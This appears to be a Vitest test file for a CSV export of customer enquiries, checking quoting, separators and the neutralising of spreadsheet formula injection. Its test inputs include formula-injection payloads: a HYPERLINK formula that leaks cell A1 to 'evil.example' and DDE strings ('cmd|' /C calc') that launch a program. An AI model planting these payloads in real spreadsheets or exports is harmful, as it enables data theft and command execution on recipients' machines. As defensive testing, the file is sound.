// The export as a spreadsheet program reads it: each text in its cell, none of them a formula.

import { describe, expect, it, test } from "vitest";
import type { ListedEnquiry } from "#server/enquiries/outbox/enquiry-store.ts";
import { fieldNames } from "#shared/enquiry/rules.ts";
import { toCsv } from "./to-csv.ts";

const listed: ListedEnquiry = {
  reference: "SPH-7K3Q-9F2M",
  receivedAt: Date.UTC(2026, 0, 31, 12),
  language: "fr",
  browserLanguage: "de-CH",
  selection: "liposomes.zinc\n  =1+1",
  formula: "complement?v=1&zinc=10mg",
  source: {
    landing: "/fr/liposomes",
    referrer: "www.example.com",
    utm_source: "=HYPERLINK(1)",
    utm_medium: "",
    utm_campaign: "mars 2027",
  },
  suspicions: ["haste", "links"],
  status: "sent",
  deliveredAt: Date.UTC(2026, 0, 31, 12, 1),
  nextAttemptAt: null,
  answeredAt: null,
  enquiry: {
    email: "claire@maison-oree.example",
    phone: "04 65 71 20 10",
    company: "Maison Orée",
    country: "France",
    person: "",
    quantity: "",
    timing: "",
    message: "Bonjour",
    product: "",
    page: "/liposomes",
  },
};

const withCompany = (company: string): ListedEnquiry => ({
  ...listed,
  enquiry: { ...listed.enquiry, company },
});

/** A strict parser for RFC 4180; throws where a cell is not quoted or not closed. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      if (text[at] !== '"') throw new Error(`no quote at ${at}`);
      let cell = "";
      for (at += 1; ; at += 1) {
        if (at >= text.length) throw new Error("a cell does not end");
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
      }
      row.push(cell);
      at += 1;
      if (text[at] !== separator) break;
      at += 1;
    }
    if (text.slice(at, at + 2) !== "\r\n") throw new Error(`no line break at ${at}`);
    at += 2;
    rows.push(row);
  }
  return rows;
}

function readBack(enquiries: readonly ListedEnquiry[], separator: "," | ";" = ",") {
  const [heading = [], ...rows] = parseCsv(toCsv(enquiries, separator).slice(1), separator);
  return rows.map((cells) => {
    expect(cells).toHaveLength(heading.length);
    return Object.fromEntries(heading.map((name, column) => [name, cells[column]]));
  });
}

const companyReadBack = (company: string) => readBack([withCompany(company)])[0]?.["company"];

it("begins with a byte order mark and ends each line as RFC 4180 requires", () => {
  const csv = toCsv([listed], ",");
  expect([...Buffer.from(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(csv.endsWith('"\r\n')).toBe(true);
});

it("has every fact and field in its column", () => {
  expect(readBack([listed])).toEqual([
    {
      reference: "SPH-7K3Q-9F2M",
      received: "2026-01-31T12:00:00.000Z",
      status: "sent",
      delivered: "2026-01-31T12:01:00.000Z",
      answered: "",
      suspect: "haste links",
      language: "fr",
      ...listed.enquiry,
      phone: "'04 65 71 20 10",
      selection: "Zinc, liposome\n  '=1+1",
      formula: "Zinc, 10\u00a0mg\n/fr/formule-sur-mesure/composer/complement?v=1&zinc=10mg",
      browserLanguage: "de-CH",
      edition: "original",
      ...listed.source,
      utm_source: "'=HYPERLINK(1)",
      utm_campaign: "'mars 2027",
    },
  ]);
  expect(readBack([{ ...listed, deliveredAt: null }])[0]?.["delivered"]).toBe("");
});

it("is only a header when there is nothing", () => {
  expect(parseCsv(toCsv([], ",").slice(1), ",")).toHaveLength(1);
});

test.each(['said "yes"', '"', '""', "a,b;c\td", "one\ntwo\r\nthree\rfour", "Œuvre 👩‍🔬 日本"])(
  "preserves %j with either separator",
  (text) => {
    for (const separator of [",", ";"] as const)
      expect(readBack([withCompany(text), listed], separator)[0]?.["company"]).toBe(text);
  },
);

test("a table has whatever the form asks for, under its name", () => {
  const texts = Object.fromEntries(fieldNames.map((name) => [name, `what ${name} says`]));
  const enquiry = { ...listed.enquiry, ...texts };
  const [heading = [], row = []] = parseCsv(toCsv([{ ...listed, enquiry }], ",").slice(1), ",");
  for (const name of fieldNames) expect(row[heading.indexOf(name)]).toBe(texts[name]);
});

describe("a text that a spreadsheet would evaluate", () => {
  const starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
  const blanks = ["", " ", "   ", "\t", "\r\n", "\u00a0", "\u2003"];
  const harmful = starts.flatMap((sign) => blanks.map((blank) => `${blank}${sign}1+1`));

  test.each(harmful)("%j gets a leading apostrophe", (text) => {
    const read = companyReadBack(text) ?? "";
    expect(read.startsWith("'")).toBe(true);
    expect(read.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
  });

  test.each([
    '=HYPERLINK("https://evil.example?leak="&A1,"Voir")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+33 4 65 71 20 10",
  ])("%j is text in every field", (text) => {
    const fields = Object.fromEntries(
      Object.keys(listed.enquiry).map((name) => [name, text]),
    ) as ListedEnquiry["enquiry"];
    const [row] = readBack([{ ...listed, enquiry: fields }]);
    for (const name of Object.keys(listed.enquiry)) expect(row?.[name]).toBe(`'${text}`);
  });

  test.each(["a=1", "1-2 kg", "claire@maison-oree.example", "C+", "'quoted'", " indented", ""])(
    "%j is none and stays as it is",
    (text) => {
      expect(companyReadBack(text)).toBe(text);
    },
  );

  test.each([
    ["Bonjour;=1+1;merci", "Bonjour;'=1+1;merci"],
    ['a;"=1+4;x', "a;\"'=1+4;x"],
    ["a\n=1+2;x", "a\n'=1+2;x"],
    ["a, @SUM(1)", "a, '@SUM(1)"],
    ['",=1+1,"', '",\'=1+1,"'],
    ["a;- cmd|' /C calc'!A0;b", "a;'- cmd|' /C calc'!A0;b"],
    ["a,- A1+HYPERLINK(1)", "a,'- A1+HYPERLINK(1)"],
    ["liste :\n- zinc\n- fer, - ou rien", "liste :\n- zinc\n- fer, - ou rien"],
  ])("%j is harmless with the other separator too", (text, read) => {
    expect(companyReadBack(text)).toBe(read);
  });
});
